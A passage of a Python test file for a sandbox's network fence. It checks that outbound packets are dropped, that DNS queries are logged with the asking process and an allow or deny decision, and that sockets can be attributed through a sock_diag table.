        try:
            L.unshare(L.CLONE_NEWNET | L.CLONE_NEWNS)
            L.mount("none", "/", None, L.MS_REC | L.MS_PRIVATE)
            proc = os.open("/proc", os.O_PATH | os.O_DIRECTORY)
            L.mount("none", "/proc", "tmpfs", 0)
            child.loopback_up()
            netns.apply_in_child(proc)
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                try:
                    s.sendto(b"x", ("2001:db8::5", 53))
                except PermissionError:  # dropped by netfilter; without the route: unreachable
                    os.write(write, b"reached the fence")
        except BaseException as e:
            os.write(write, repr(e).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as f:
        result = f.read().decode()
    os.waitpid(pid, 0)
    assert result == "reached the fence"


def test_every_dns_query_is_recorded_with_the_process_that_asked() -> None:
    # A short-lived program (getent) has exited a moment after its answer arrives; the resolver
    # finds who asked before answering, so none of its queries lose their process.
    with Sandbox(policy([{"host": "*.example.internal", "ports": [443]}]), keep_workspace=False) as sb:
        sb.exec("for i in $(seq 15); do getent hosts a$i.example.internal; getent hosts b$i.nope.test; done")
        queries = [e for e in sb.events() if isinstance(e, DnsQuery)]
    assert len(queries) >= 30
    assert {q.decision for q in queries} == {"allow", "deny"}
    assert all(q.process is not None and q.process.exe == "/usr/bin/getent" for q in queries), [
        q.process for q in queries
    ]


def test_the_socket_table_finds_tcp_and_udp_sockets_by_their_addresses() -> None:
    with contextlib.ExitStack() as stack:
        table = sockdiag.SocketTable(stack.enter_context(sockdiag.open_socket()))
        listener = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        client = stack.enter_context(socket.create_connection(listener.getsockname()))
        server = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        server.bind(("127.0.0.1", 0))
        # A query sent elsewhere and redirected to the resolver: only its own port is known.
        asker = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        asker.connect(("127.0.0.2", 53))
        sender = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        sender.sendto(b"?", server.getsockname())

        def inode(s: socket.socket) -> int:
            return os.fstat(s.fileno()).st_ino

        assert table.tcp_inode(client.getsockname(), listener.getsockname()) == inode(client)
        assert table.tcp_inode(listener.getsockname(), ("0.0.0.0", 0)) == inode(listener)
        assert table.udp_inode(asker.getsockname()[1]) == inode(asker)
        assert table.udp_inode(sender.getsockname()[1]) == inode(sender)
        # The wrong far end, or no socket at all, is nobody's.
        assert table.tcp_inode(client.getsockname(), ("127.0.0.1", 1)) is None
        free = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
        free.close()
        assert table.udp_inode(port) is None


def test_the_fence_checks_that_it_can_attribute_connections_before_a_sandbox_starts() -> None:
    # The check runs in the intermediate child; here it is given a socket the TCP table can't hold, as a
    # kernel without a working sock_diag would answer for any.
    with sockdiag.open_socket() as diag, socket.create_server(("127.0.0.1", 0)) as listener:
        netns.check_attribution(diag, listener)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.bind(("127.0.0.1", 0))
            with pytest.raises(OSError, match="sock_diag can't find"):
                netns.check_attribution(diag, udp)
